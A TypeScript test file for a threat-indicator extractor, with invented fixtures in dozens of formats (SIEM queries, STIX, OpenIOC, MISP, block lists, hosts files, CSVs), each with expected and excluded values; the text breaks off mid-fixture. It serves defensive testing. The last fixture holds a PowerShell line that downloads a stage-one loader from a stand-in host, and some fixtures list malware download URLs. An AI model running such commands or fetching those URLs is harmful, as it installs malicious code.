import iconv from 'iconv-lite';
import { readList } from '../../../extractors/lists/index.ts';
import { expect, test } from '../../support/test.ts';
import { workbook } from './workbook.ts';

/**
 * Invented lists, each with habits of its own; truth by hand, written before they were read. `want`: exactly these are
 * indicators. `never`: not kept in any way. What else is kept as context (names of files, techniques) does not matter here.
 */
interface Habit {
  name: string;
  file: string;
  content: string | Uint8Array;
  want: string[];
  never?: string[];
}

const hash = (length: number, seed: string) =>
  Array.from({ length }, (_, at) => ((seed.charCodeAt(at % seed.length) * 7 + at * 11 + seed.length) % 16).toString(16)).join('');
const M1 = hash(32, 'kettle');
const M2 = hash(32, 'amber');
const S1 = hash(40, 'dock');
const H1 = hash(64, 'lantern');
const H2 = hash(64, 'heron');
const H3 = hash(64, 'copper');
const H4 = hash(64, 'finch');

const HABITS: Habit[] = [
  {
    name: 'KQL: lists by name, a list that is left out, fields that are nobody’s indicators',
    file: 'amber.kql',
    content: `// the panels (see https://www.branig.net/notes/1187)\nlet IocIPs = dynamic(["91.212.44.7"]);\nlet IocHashes = dynamic(["${H1}","${H2}"]);\nlet AllowedHosts = dynamic(["intra.dockpost.com"]);\nunion\n(DeviceNetworkEvents | where RemoteIP in (IocIPs) and RemoteUrl has_any ("amber-heron.net","finch-sync.top") and RemoteUrl !endswith "dockpost.org"),\n(DeviceProcessEvents | where DeviceName == "ws17.dockpost.net" and not(RemoteUrl has_any ("cdn.dockpost.com", "img.dockpost.com")))\n`,
    want: ['91.212.44.7', H1, H2, 'amber-heron.net', 'finch-sync.top'],
    never: ['intra.dockpost.com', 'dockpost.org', 'ws17.dockpost.net', 'cdn.dockpost.com', 'img.dockpost.com'],
  },
  {
    name: 'SPL: a data model, queries in mixed case, names of programs',
    file: 'amber.txt',
    content: `| tstats count from datamodel=Network_Traffic where All_Traffic.dest_ip IN ("91.212.44.7","91.212.44.9") by All_Traffic.src_ip\n\nindex=dns (query="qoRVelTa.com" OR query="*.amber-heron.net") NOT query IN ("ntp.dockpost.com")\n| stats count by src_ip, query\n`,
    want: ['91.212.44.7', '91.212.44.9', 'qorvelta.com', 'amber-heron.net'],
    never: ['ntp.dockpost.com'],
  },
  {
    name: 'EQL: a sequence with what is not meant',
    file: 'amber.eql',
    content: `sequence by host.id with maxspan=30s\n  [network where process.name : ("kettle.exe") and\n   not dns.question.name : ("*.dockpost.com") and destination.ip in ("91.212.44.7", "91.212.44.9")]\n  [file where file.hash.sha256 == "${H1}"]\n`,
    want: ['91.212.44.7', '91.212.44.9', H1],
    never: ['dockpost.com'],
  },
  {
    name: 'a query of an endpoint product, and one in SQL',
    file: 'amber-hunt.txt',
    content: `(event.type = "DNS" AND event.dns.request contains "qorvelta.com")\n  OR\n(event.type = "IP Connect" AND dst.ip.address in ("91.212.44.7"))\n`,
    want: ['qorvelta.com', '91.212.44.7'],
  },
  {
    name: 'SQL with values in single quotes and an exception',
    file: 'amber.sql',
    content: `SELECT time, domain FROM proxy_logs\nWHERE domain = 'finch-sync.top' OR domain LIKE '%.amber-heron.net' AND NOT (domain IN ('good.dockpost.com'))\n`,
    want: ['finch-sync.top', 'amber-heron.net'],
    never: ['good.dockpost.com'],
  },
  {
    name: 'a query with values that have no quotes',
    file: 'amber-falcon.txt',
    content: `event_simpleName=DnsRequest DomainName IN (qorvelta.com, finch-sync.top)\n| stats values(ComputerName) count by DomainName\n`,
    want: ['qorvelta.com', 'finch-sync.top'],
  },
  {
    name: "a browser's filter list, with options and an exception",
    file: 'lantern-filters.txt',
    content: '! Title: Lantern\n||qorvelta.com^\n||cdn.heron-amber.net^$important\n@@||branig.net^\n',
    want: ['qorvelta.com', 'cdn.heron-amber.net'],
    never: ['branig.net'],
  },
  {
    name: 'a row that holds nothing but a type and a vulnerability is no header',
    file: 'pulse.csv',
    content: 'Indicator type,Indicator,Description\ndomain,qorvelta.com,\nCVE,CVE-2024-1234,\nemail,parcel@heron-amber.net,\n',
    want: ['qorvelta.com', 'parcel@heron-amber.net'],
  },
  {
    name: 'notes of an infection: the header of the mail, its link, files with remarks',
    file: '2026-03-02-notes-for-amber-loader.txt',
    content: `2026-03-02 (MONDAY) - AMBER LOADER FROM MAIL\n\nREFERENCE:\n\n- https://www.branig.net/notes/1187\n\nMAIL HEADERS:\n\nFrom: "DOCKPOST.COM" <parcel@heron-amber.net>\nContent-Type: multipart/mixed;\n\tboundary="b1_${M2}"\n\nLINK FROM MESSAGE TEXT:\n\n- hxxps://parcel.qorvelta[.]com/update/\n\nFILES:\n\n- SHA256 hash: ${H1}\n- File size: 48,128 bytes\n- File description: text that is encoded twice, not malicious unless decoded\n\n- SHA256 hash: ${H2}\n- File description: Copy of curl.exe\n- Note: Not malicious, but used here\n`,
    want: ['parcel@heron-amber.net', 'https://parcel.qorvelta.com/update/', H1],
    never: ['dockpost.com', M2, 'https://www.branig.net/notes/1187'],
  },
  {
    name: 'one host a line, some of them spelt like files and one that is none',
    file: 'copper-heron.txt',
    content: '7vz.me\n4w.rs\nfq.ms\nb7.zq\nlwq.sh\n1069083061.site\nqorvelta.com\nx4z.pl\nk5j.one\nu8.pm\nz7q.org\n',
    want: ['7vz.me', '4w.rs', 'fq.ms', 'lwq.sh', '1069083061.site', 'qorvelta.com', 'x4z.pl', 'k5j.one', 'u8.pm', 'z7q.org'],
  },
  {
    name: 'a description that is the hash',
    file: 'ioc.json',
    content: JSON.stringify([
      { Indicator: 'Officers.doc', Description: H1 },
      { Indicator: '91.212.44.7', Description: 'C2' },
    ]),
    want: [H1, '91.212.44.7'],
  },
  {
    name: 'a readme that sends the reader to the article',
    file: 'README.md',
    content: `## Indicators of compromise for Copper Lantern\n\nSee https://labs.branig.net/articles/lantern/\n\n- ${H1}\n- ${H2}\n`,
    want: [H1, H2],
  },
  {
    name: 'a workbook with several sheets: cover, hosts, samples, targets, references',
    file: 'lantern.xlsx',
    content: workbook({
      'Read me': [
        ['Copper Lantern'],
        ['Contact: intel@marnstad-labs.com'],
        ['Version 1.2, see https://www.marnstad-labs.com/blog/lantern'],
      ],
      Network: [
        ['No.', 'Indicator', 'Type', 'Port', 'ASN', 'First seen'],
        ['1', 'qorvelta[.]com', 'Domain', '443', 'AS64500', '2026-02-01'],
        ['2', '91.212.44[.]7', 'IP', '8443', 'AS64501', '2026-02-03'],
      ],
      Samples: [
        ['File name', 'Size', 'MD5', 'SHA-256', 'Compiled'],
        ['kettle.exe', '48128', M1, H1, '2026-01-15 10:22'],
        ['amber.dll', '12800', M2, H2, '2026-01-16 08:00'],
      ],
      Victims: [
        ['Organisation', 'Domain'],
        ['Harbour works', 'harbour-works.org'],
      ],
      References: [['https://www.branig.net/heron'], ['https://attack.mitre.org/groups/G0001']],
    }),
    want: ['qorvelta.com', '91.212.44.7', M1, H1, M2, H2],
    never: ['intel@marnstad-labs.com', 'harbour-works.org', 'https://www.branig.net/heron'],
  },
  {
    name: 'a MISP CSV export with object columns',
    file: 'misp.event.csv',
    content: `uuid,event_id,category,type,value,comment,to_ids,date,object_relation,attribute_tag,object_uuid,object_name,object_meta_category\r\n"11111111-2222-4333-8444-555555555555",17,"Network activity","hostname","c2.qorvelta.com","beacon",1,20260301,"","","","",""\r\n"11111111-2222-4333-8444-555555555556",17,"Payload delivery","sha256","${H1}","",1,20260301,"sha256","","9","file","file"\r\n"11111111-2222-4333-8444-555555555557",17,"Payload delivery","filename","kettle.exe","",0,20260301,"filename","","9","file","file"\r\n"11111111-2222-4333-8444-555555555558",17,"External analysis","link","https://www.marnstad-labs.com/blog/lantern","",0,20260301,"","","","",""\r\n"11111111-2222-4333-8444-555555555559",17,"Targeting data","target-org","Harbour works","",0,20260301,"","","","",""\r\n"11111111-2222-4333-8444-55555555555a",17,"Network activity","ip-dst|port","91.212.44.7|4443","",1,20260301,"","","","",""\r\n"11111111-2222-4333-8444-55555555555b",17,"Network activity","domain|ip","amber-heron.com|91.212.44.9","",1,20260301,"","","","",""\r\n`,
    want: ['c2.qorvelta.com', H1, '91.212.44.7:4443', 'amber-heron.com', '91.212.44.9'],
    never: ['https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'OpenIOC with nested operators, a negated item and a compile time',
    file: 'lantern.ioc',
    content: `<?xml version="1.0" encoding="us-ascii"?>
<ioc xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" id="6d2a1b03" last-modified="2026-03-01T00:00:00" xmlns="http://schemas.mandiant.com/2010/ioc">
<short_description>LANTERN (BACKDOOR)</short_description><description>See https://www.marnstad-labs.com/blog/lantern</description><authored_by>Marnstad</authored_by>
<definition><Indicator operator="OR" id="a">
<IndicatorItem id="b" condition="is"><Context document="FileItem" search="FileItem/Md5sum" type="mir"/><Content type="md5">${M1.toUpperCase()}</Content></IndicatorItem>
<IndicatorItem id="c" condition="contains"><Context document="Network" search="Network/DNS" type="mir"/><Content type="string">qorvelta.com</Content></IndicatorItem>
<IndicatorItem id="d" condition="is"><Context document="PortItem" search="PortItem/remoteIP" type="mir"/><Content type="IP">91.212.44.7</Content></IndicatorItem>
<Indicator operator="AND" id="e"><IndicatorItem id="f" condition="is"><Context document="FileItem" search="FileItem/FileName" type="mir"/><Content type="string">kettle.exe</Content></IndicatorItem>
<IndicatorItem id="g" condition="is"><Context document="FileItem" search="FileItem/PEInfo/PETimeStamp" type="mir"/><Content type="date">2026-01-15T10:22:00Z</Content></IndicatorItem>
<IndicatorItem id="h" condition="isnot"><Context document="FileItem" search="FileItem/Md5sum" type="mir"/><Content type="md5">${M2}</Content></IndicatorItem></Indicator>
<IndicatorItem id="i" condition="contains"><Context document="Network" search="Network/URI" type="mir"/><Content type="string">http://amber-heron.com/gate.php</Content></IndicatorItem>
</Indicator></definition></ioc>`,
    want: [M1, 'qorvelta.com', '91.212.44.7', 'http://amber-heron.com/gate.php'],
    never: [M2, 'https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'OpenIOC as old versions of MISP wrote it: the ids are what to look for',
    file: 'heron.ioc',
    content: `<?xml version="1.0" encoding="utf-8"?>
<ioc id="6d2a1b03-b478-474a-a013-49798e96ca05" xmlns="http://schemas.mandiant.com/2010/ioc"><short_description>Event #4</short_description><links />
<definition><Indicator operator="OR" id="6d2a1b03-b478-474a-a013-49798e96ca05">
<IndicatorItem id="${M1}" condition="is"><Context document="FileItem" search="FileItem/Md5sum" type="mir" /><Content type="md5"></Content></IndicatorItem>
<IndicatorItem id="qorvelta.com" condition="is"><Context document="Network" search="Network/DNS" type="mir" /><Content type="string"></Content></IndicatorItem>
<IndicatorItem id="91.212.44.7" condition="is"><Context document="RouteEntryItem" search="RouteEntryItem/Destination" type="mir" /><Content type="IP"></Content></IndicatorItem>
<IndicatorItem id="${M2}" condition="is"><Context document="FileItem" search="FileItem/FileName" type="mir" /><Content type="string">kettle.exe</Content></IndicatorItem>
</Indicator></definition></ioc>`,
    want: [M1, 'qorvelta.com', '91.212.44.7'],
    never: [M2],
  },
  {
    name: 'STIX 1 as MISP writes it: a package of packages',
    file: 'heron.xml',
    content: `<stix:STIX_Package xmlns:stix="http://stix.mitre.org/stix-1" xmlns:cybox="http://cybox.mitre.org/cybox-2" id=":Package-1" version="1.1.1"><stix:STIX_Header><stix:Title>Export from  MISP</stix:Title></stix:STIX_Header>
<stix:Related_Packages><stix:Related_Package><stix:Package id=":STIXPackage-2"><stix:Incidents><stix:Incident><incident:Related_Indicators><incident:Related_Indicator><stixCommon:Indicator><indicator:Title>Network activity: qorvelta.com (MISP Attribute #45)</indicator:Title><indicator:Observable><cybox:Object><cybox:Properties xsi:type="DomainNameObj:DomainNameObjectType"><DomainNameObj:Value condition="Equals">qorvelta.com</DomainNameObj:Value></cybox:Properties></cybox:Object></indicator:Observable><indicator:Confidence><stixCommon:Value>High</stixCommon:Value></indicator:Confidence></stixCommon:Indicator></incident:Related_Indicator></incident:Related_Indicators></stix:Incident></stix:Incidents>
<stix:Related_Packages><stix:Related_Package><stix:Package><cybox:Properties><DomainNameObj:Value>branig.net</DomainNameObj:Value></cybox:Properties></stix:Package></stix:Related_Package></stix:Related_Packages></stix:Package></stix:Related_Package></stix:Related_Packages></stix:STIX_Package>`,
    want: ['qorvelta.com'],
    never: ['branig.net'],
  },
  {
    name: 'STIX 1 with an OR list in one value, CDATA and an information source',
    file: 'lantern.xml',
    content: `<stix:STIX_Package xmlns:stix="http://stix.mitre.org/stix-1" xmlns:cybox="http://cybox.mitre.org/cybox-2" xmlns:AddressObj="a" xmlns:DomainNameObj="b" xmlns:FileObj="c" xmlns:cyboxCommon="d" xmlns:indicator="e" xmlns:xsi="x" version="1.2">
<stix:STIX_Header><stix:Title>Lantern</stix:Title><stix:Information_Source><stix:References><r>https://www.marnstad-labs.com/blog/lantern</r></stix:References></stix:Information_Source></stix:STIX_Header>
<stix:Indicators><stix:Indicator><indicator:Title>C2</indicator:Title><indicator:Observable><cybox:Object><cybox:Properties xsi:type="AddressObj:AddressObjectType" category="ipv4-addr"><AddressObj:Address_Value condition="Equals" apply_condition="ANY">91.212.44.7##comma##91.212.44.9</AddressObj:Address_Value></cybox:Properties></cybox:Object></indicator:Observable></stix:Indicator>
<stix:Indicator><indicator:Observable><cybox:Object><cybox:Properties xsi:type="DomainNameObj:DomainNameObjectType" type="FQDN"><DomainNameObj:Value condition="Equals"><![CDATA[qorvelta.com]]></DomainNameObj:Value></cybox:Properties></cybox:Object></indicator:Observable></stix:Indicator>
<stix:Indicator><indicator:Observable><cybox:Object><cybox:Properties xsi:type="FileObj:FileObjectType"><FileObj:File_Name>kettle.exe</FileObj:File_Name><FileObj:Size_In_Bytes>48128</FileObj:Size_In_Bytes><FileObj:Hashes><cyboxCommon:Hash><cyboxCommon:Type>SHA256</cyboxCommon:Type><cyboxCommon:Simple_Hash_Value>${H1}</cyboxCommon:Simple_Hash_Value></cyboxCommon:Hash></FileObj:Hashes></cybox:Properties></cybox:Object></indicator:Observable></stix:Indicator></stix:Indicators></stix:STIX_Package>`,
    want: ['91.212.44.7', '91.212.44.9', 'qorvelta.com', H1],
    never: ['https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'STIX 2 patterns with OR, AND, IN, NOT and a benign indicator; external references',
    file: 'lantern.json',
    content: JSON.stringify({
      type: 'bundle',
      id: 'bundle--0f0e0d0c-0000-4000-8000-000000000000',
      objects: [
        { type: 'identity', id: 'identity--1', name: 'Marnstad', contact_information: 'intel@marnstad-labs.com' },
        {
          type: 'indicator',
          id: 'indicator--1',
          pattern_type: 'stix',
          name: 'Hosts',
          pattern:
            "[domain-name:value IN ('qorvelta.com', 'amber-heron.com')] OR ([ipv4-addr:value = '91.212.44.7' AND network-traffic:dst_port = 443] FOLLOWEDBY [url:value = 'https://dock-kettle.org/a?x=\\'1\\''])",
          external_references: [{ source_name: 'blog', url: 'https://www.marnstad-labs.com/blog/lantern' }],
        },
        {
          type: 'indicator',
          id: 'indicator--2',
          pattern_type: 'stix',
          pattern: `[file:hashes.'SHA-256' = '${H1}' AND file:hashes.'SSDEEP' != 'x' AND file:name = 'kettle.exe'] AND [file:hashes.MD5 NOT IN ('${M2}')]`,
        },
        {
          type: 'indicator',
          id: 'indicator--3',
          pattern_type: 'stix',
          indicator_types: ['benign'],
          pattern: "[domain-name:value = 'harbour-works.org']",
        },
        { type: 'ipv4-addr', id: 'ipv4-addr--1', value: '91.212.44.0/28' },
        { type: 'domain-name', id: 'domain-name--1', value: 'finch-copper.net' },
      ],
    }),
    want: ['qorvelta.com', 'amber-heron.com', '91.212.44.7', "https://dock-kettle.org/a?x='1'", H1, '91.212.44.0/28', 'finch-copper.net'],
    never: ['harbour-works.org', M2, 'https://www.marnstad-labs.com/blog/lantern', 'intel@marnstad-labs.com'],
  },
  {
    name: 'nested JSON by kind and stage, with metadata beside it',
    file: 'iocs.json',
    content: JSON.stringify({
      report: {
        title: 'Lantern',
        url: 'https://www.marnstad-labs.com/blog/lantern',
        author_email: 'intel@marnstad-labs.com',
        generator: 'exporter 1.2.3.4',
      },
      stages: {
        loader: {
          files: [
            { name: 'kettle.exe', hashes: { md5: M1, sha256: H1 }, size: 48128, vt_link: `https://www.virustotal.com/gui/file/${H1}` },
          ],
        },
        c2: {
          hosts: [{ domain: 'qorvelta.com', resolves_to: ['91.212.44.7'], ports: [443, 8443] }],
          urls: ['https://amber-heron.com/api/v1'],
        },
      },
      whitelist: { domains: ['harbour-works.org'] },
    }),
    want: [M1, H1, 'qorvelta.com', '91.212.44.7', 'https://amber-heron.com/api/v1'],
    never: ['harbour-works.org', 'https://www.marnstad-labs.com/blog/lantern', 'intel@marnstad-labs.com', '1.2.3.4'],
  },
  {
    name: 'Markdown tables with links to analyses in the cells',
    file: 'IOCs.md',
    content: `# Lantern indicators\n\nFrom our [report](https://www.marnstad-labs.com/blog/lantern).\n\n## Files\n\n| SHA256 | Description | Sandbox |\n| --- | :---: | --- |\n| \`${H1}\` | loader | [run](https://sandbox.branig.net/r/1) |\n| [${H2}](https://www.virustotal.com/gui/file/${H2}) | backdoor | [run](https://sandbox.branig.net/r/2) |\n\n## Network\n\n| Indicator | Notes |\n|---|---|\n| \`qorvelta[.]com\` | C2, first seen 2026-02-01 |\n| \`hxxp://amber-heron[.]com:8080/x\` | stage two |\n`,
    want: [H1, H2, 'qorvelta.com', 'http://amber-heron.com:8080/x'],
    never: ['https://sandbox.branig.net/r/1', 'https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'AsciiDoc with a table of several lines per row and a reference list',
    file: 'README.adoc',
    content: `= Lantern\n:toc:\n\nThe blog is at https://www.marnstad-labs.com/blog/lantern[here].\n\n== Indicators\n\n=== Hashes\n\n[options="header"]\n|===\n|SHA-1 |File name |Description\n|\`${S1}\`\n|\`kettle.exe\`\n|The loader\n|===\n\n=== Network\n\n* \`qorvelta[.]com\`\n* \`91[.]212[.]44[.]7\` (until March)\n\n== References\n\n* https://www.branig.net/heron[Branig]\n`,
    want: [S1, 'qorvelta.com', '91.212.44.7'],
    never: ['https://www.branig.net/heron', 'https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'defanged hosts with comments behind them',
    file: 'network.txt',
    content: `# Lantern network indicators - Marnstad Labs\n# https://www.marnstad-labs.com/blog/lantern\n\nqorvelta[.]com          # beacon, since 2026-02\namber-heron(.)com       ; drop zone, see harbour-works.org case\nhxxps[:]//dock-kettle[.]org/a/b.bin   // stage two\n91[.]212[.]44[.]7:8443  # moved from 91.212.44[.]9\nfinch-copper[dot]net\n`,
    want: ['qorvelta.com', 'amber-heron.com', 'https://dock-kettle.org/a/b.bin', '91.212.44.7:8443', 'finch-copper.net'],
    never: ['https://www.marnstad-labs.com/blog/lantern', 'harbour-works.org'],
  },
  {
    name: 'UTF-16 with a byte order mark, tabs, German column names',
    file: 'liste.txt',
    content: iconv.encode(
      `Nr.\tDateiname\tPrüfsumme (SHA256)\tGröße\tErstmals gesehen\tBemerkung\r\n1\tkettle.exe\t${H1}\t48.128\t01.02.2026\tLader\r\n2\tamber.dll\t${H2}\t12.800\t02.02.2026\t\r\n`,
      'utf16',
      { addBOM: true },
    ),
    want: [H1, H2],
  },
  {
    name: 'semicolons, decimal commas and German headings: values, scores, victims',
    file: 'export.csv',
    content: `Typ;Wert;Bewertung;Zuletzt gesehen;Betroffene Domäne;Quelle\nDomäne;qorvelta.com;9,5;03.03.2026 10:00;harbour-works.org;https://www.marnstad-labs.com/blog/lantern\nIP-Adresse;91.212.44.7;8,25;03.03.2026 11:30;harbour-works.org;https://www.marnstad-labs.com/blog/lantern\nURL;http://amber-heron.com/x;7,0;04.03.2026 09:12;;https://www.marnstad-labs.com/blog/lantern\n`,
    want: ['qorvelta.com', '91.212.44.7', 'http://amber-heron.com/x'],
    never: ['harbour-works.org', 'https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'Japanese column names in Shift_JIS-free UTF-8 CSV',
    file: 'lantern_ioc.csv',
    content: `種別,値,備考,初回観測日,参考URL\nドメイン,qorvelta.com,C2サーバー,2026-02-01,https://www.marnstad-labs.com/blog/lantern\nIPアドレス,91.212.44.7,C2サーバー,2026-02-02,https://www.marnstad-labs.com/blog/lantern\nハッシュ値(SHA256),${H1},kettle.exe,2026-02-03,https://www.marnstad-labs.com/blog/lantern\n`,
    want: ['qorvelta.com', '91.212.44.7', H1],
    never: ['https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'first and last seen, asn, country, confidence, benign parents',
    file: 'c2.csv',
    content: `ip_address,port,protocol,asn,as_name,country,first_seen,last_seen,confidence,parent_domain_benign,hostname\n91.212.44.7,443,tcp,64500,HARBOUR-AS,NL,2026-02-01T10:00:00Z,2026-03-01T10:00:00Z,0.95,,c2.qorvelta.com\n91.212.44.9,8443,tcp,64501,DOCK,DE,2026-02-02T10:00:00Z,2026-03-02T10:00:00Z,0.80,harbour-works.org,\n`,
    want: ['91.212.44.7', '91.212.44.9', 'c2.qorvelta.com'],
    never: ['harbour-works.org'],
  },
  {
    name: 'a text with sections, one of them an allow list',
    file: 'lantern-iocs.txt',
    content: `INDICATORS OF COMPROMISE\n========================\n\n[Domains]\nqorvelta.com\namber-heron.com\n\n[IPs]\n91.212.44.7\n\n[SHA256]\n${H1}  kettle.exe\n${H2}  amber.dll\n\n[Whitelist]\nharbour-works.org\n80.80.12.9\n\n[References]\nhttps://www.branig.net/heron\n`,
    want: ['qorvelta.com', 'amber-heron.com', '91.212.44.7', H1, H2],
    never: ['harbour-works.org', '80.80.12.9', 'https://www.branig.net/heron'],
  },
  {
    name: 'a hosts file',
    file: 'hosts.txt',
    content: `# Title: Lantern block list\n# Homepage: https://www.marnstad-labs.com/lists\n127.0.0.1 localhost\n::1 localhost ip6-loopback\n255.255.255.255 broadcasthost\n0.0.0.0 0.0.0.0\n\n0.0.0.0 qorvelta.com\n0.0.0.0 www.amber-heron.com # shop\n127.0.0.1\tfinch-copper.net\n`,
    want: ['qorvelta.com', 'www.amber-heron.com', 'finch-copper.net'],
    never: ['0.0.0.0', '127.0.0.1', '255.255.255.255', 'https://www.marnstad-labs.com/lists'],
  },
  {
    name: 'a firewall table of networks with comments',
    file: 'pfsense-lantern.txt',
    content: `; Lantern networks, updated 2026-03-01 12:00:00 UTC\n; source: https://www.marnstad-labs.com/lists\n91.212.44.0/24 ; SBL4711\n185.61.137.0/26 ; SBL4712\n45.77.12.9\n91.212.60.4-91.212.60.4\n`,
    want: ['91.212.44.0/24', '185.61.137.0/26', '45.77.12.9', '91.212.60.4'],
    never: ['https://www.marnstad-labs.com/lists'],
  },
  {
    name: 'a dump of malware URLs with quoted cells and a commented header',
    file: 'urls.csv',
    content: `################################################################\n# Lantern URL dump (CSV)                                       #\n# Terms: https://www.marnstad-labs.com/api/                    #\n################################################################\n#\n# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n"3501","2026-03-01 10:00:05","http://91.212.44.7:41221/bin.sh","online","2026-03-01 10:00:05","malware_download","32-bit,elf,mips","https://dump.marnstad-labs.com/url/3501/","heron_h"\n"3502","2026-03-01 10:00:06","https://qorvelta.com/a.php?id=1,2","offline","","malware_download","exe","https://dump.marnstad-labs.com/url/3502/","finch.net"\n`,
    want: ['http://91.212.44.7:41221/bin.sh', 'https://qorvelta.com/a.php?id=1,2'],
    never: ['https://dump.marnstad-labs.com/url/3501/', 'finch.net', 'https://www.marnstad-labs.com/api/'],
  },
  {
    name: 'hashes with sizes and names as tools print them',
    file: 'SHA256SUMS',
    content: `SHA256 (kettle.exe) = ${H1}\nSHA256 (amber.dll) = ${H2}\n${H3} *heron.bin\n${H4}  48128  2026-01-15  finch copper.doc\nMD5 (kettle.exe) = ${M1}\n`,
    want: [H1, H2, H3, H4, M1],
  },
  {
    name: 'a block list of rules of an advertisement blocker and of a resolver',
    file: 'adblock.txt',
    content: `[Adblock Plus]\n! Title: Lantern\n! Homepage: https://www.marnstad-labs.com/lists\n||qorvelta.com^\n||amber-heron.com^$all\n@@||harbour-works.org^\n||91.212.44.7^\n`,
    want: ['qorvelta.com', 'amber-heron.com', '91.212.44.7'],
    never: ['harbour-works.org', 'https://www.marnstad-labs.com/lists'],
  },
  {
    name: 'key and value lines in blocks, with detection names and contacts',
    file: 'ioc.txt',
    content: `Name: kettle.exe\nMD5: ${M1}\nSHA1: ${S1}\nSHA256: ${H1}\nSize: 48128 bytes\nDetection: Win32/Lantern.A\nC2: hxxps://qorvelta[.]com/gate , 91.212.44[.]7:443\nPDB: C:\\dev\\lantern\\kettle.pdb\nMutex: Global\\lantern-17\nVirusTotal: https://www.virustotal.com/gui/file/${H1}\n\nName: amber.dll\nSHA256: ${H2}\nC2: amber-heron[.]com\n\nQuestions? intel@marnstad-labs.com\n`,
    want: [M1, S1, H1, 'https://qorvelta.com/gate', '91.212.44.7:443', H2, 'amber-heron.com'],
    never: ['intel@marnstad-labs.com'],
  },
  {
    name: 'a hosts file, and what resolvers and zones block',
    file: 'lantern-hosts.txt',
    content: `# https://www.marnstad-labs.com/lists\n127.0.0.1 localhost\n0.0.0.0 qorvelta.com www.qorvelta.com\n0.0.0.0 update.amber-heron.zip\naddress=/dock-kettle.org/0.0.0.0\nserver=/finch-copper.net/\n@ IN SOA rpz.marnstad-labs.com. admin.marnstad-labs.com. (\n*.heron-dock.biz  CNAME .\nharbour-works.org CNAME rpz-passthru.\n`,
    want: ['qorvelta.com', 'www.qorvelta.com', 'update.amber-heron.zip', 'dock-kettle.org', 'finch-copper.net', 'heron-dock.biz'],
    never: ['harbour-works.org', 'rpz.marnstad-labs.com', 'https://www.marnstad-labs.com/lists'],
  },
  {
    name: 'an intelligence file of Zeek',
    file: 'lantern.intel',
    content: `#fields\tindicator\tindicator_type\tmeta.source\tmeta.url\nqorvelta.com\tIntel::DOMAIN\tmarnstad\thttps://www.marnstad-labs.com/blog/lantern\n91.212.44.7\tIntel::ADDR\tmarnstad\thttps://www.marnstad-labs.com/blog/lantern\n${S1}\tIntel::CERT_HASH\tmarnstad\t-\n${H1}\tIntel::FILE_HASH\tmarnstad\t-\n`,
    want: ['qorvelta.com', '91.212.44.7', H1],
    never: [S1, 'https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'a log of connections',
    file: 'conn.log',
    content: `#separator \\x09\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\n#types\ttime\tstring\taddr\tport\taddr\tport\tenum\n1773309662.114\tCXWv6p3arKYeMETxOg\t10.3.12.101\t50112\t91.212.44.7\t8080\ttcp\n1773309669.002\tCjhGID4nQcgTWjvg4c\t10.3.12.101\t50120\t91.212.44.9\t443\ttcp\n`,
    want: ['91.212.44.7', '91.212.44.9'],
    never: ['10.3.12.101'],
  },
  {
    name: 'a sandbox report whose sample is its target',
    file: 'report.json',
    content: JSON.stringify({
      target: { file: { name: 'kettle.exe', md5: M1, sha256: H1 } },
      network: { domains: [{ domain: 'qorvelta.com', ip: '91.212.44.7' }] },
      signatures: [{ references: ['https://www.branig.net/heron'] }],
    }),
    want: [M1, H1, 'qorvelta.com', '91.212.44.7'],
    never: ['https://www.branig.net/heron'],
  },
  {
    name: 'JSON whose keys are what it lists',
    file: 'iocs.json',
    content: JSON.stringify({
      hashes: { [H1]: { file: 'kettle.exe' }, [M1]: null },
      network: { '91.212.44.7': ['443'], 'qorvelta.com': 'C2' },
      excluded: { domains: ['harbour-works.org'] },
    }),
    want: [H1, M1, '91.212.44.7', 'qorvelta.com'],
    never: ['harbour-works.org'],
  },
  {
    name: 'YAML',
    file: 'lantern.yaml',
    content: `report: https://www.marnstad-labs.com/blog/lantern\niocs:\n  - type: domain\n    value: qorvelta.com\n    description: as legit-harbour-works.org\n  - {type: sha256, value: ${H1}}\nnetwork:\n  ips: [91.212.44.7, '91.212.44.9']\nwhitelist:\n  - harbour-works.org\n`,
    want: ['qorvelta.com', H1, '91.212.44.7', '91.212.44.9'],
    never: ['harbour-works.org', 'legit-harbour-works.org', 'https://www.marnstad-labs.com/blog/lantern'],
  },
  {
    name: 'indicators for import, some of them allowed',
    file: 'import.csv',
    content: `IndicatorType,IndicatorValue,Action,Title,Description\nFileSha256,${H1},BlockAndRemediate,Lantern,loader\nDomainName,qorvelta.com,Block,Lantern,C2\nDomainName,harbour-works.org,Allowed,Partner,\n`,
    want: [H1, 'qorvelta.com'],
    never: ['harbour-works.org'],
  },
  {
    name: 'a wiki page, Portuguese column names',
    file: 'iocs-wiki.txt',
    content: `h1. Lantern\n||Tipo de indicador||Indicador||Observação||Referência||\n|Domínio|qorvelta[.]com|C2|[report|https://www.branig.net/heron]|\n|Hash SHA-256|{{${H1}}}|kettle.exe| |\nh2. References\n* https://www.branig.net/two\n`,
    want: ['qorvelta.com', H1],
    never: ['https://www.branig.net/heron', 'https://www.branig.net/two'],
  },
  {
    name: 'pages of sharing services, defanged or in a list of URLs; a reference in the introduction',
    file: 'README.md',
    content: `# IOC for Heron\n\nOur analysis and technical details at <https://www.branig.net/heron>\n\n## URLs\n\n\`\`\`\nmega[.]nz/file/0Ux1#H28pgAJ\nhxxps://cdn.discordapp[.]com/attachments/11/22/a.uue\n\`\`\`\n\n## Commands\n\n\`\`\`powershell\niwr https://qorvelta.com/doc/7 -OutFile $b\\a.zz -UseB ; gci $b\\a.zz | ren -N {$_.Name -replace 'z',''} # the loader of the first stage\n\`\`\`\n\n## Crypto\n\n\`\`\`\nCipher: AES\nKey: ${H1} (32 bytes)\n\`\`\`\n\n## Files\n\n| SHA-256 | File | Role |\n| --- | --- | --- |\n| ${H2} | kettle.exe | Legitimate host of the loader |\n| ${H3} | amber.dll | runtime, appears legitimate |\n| ${H4} | dock.dll | malicious loader |\n`,
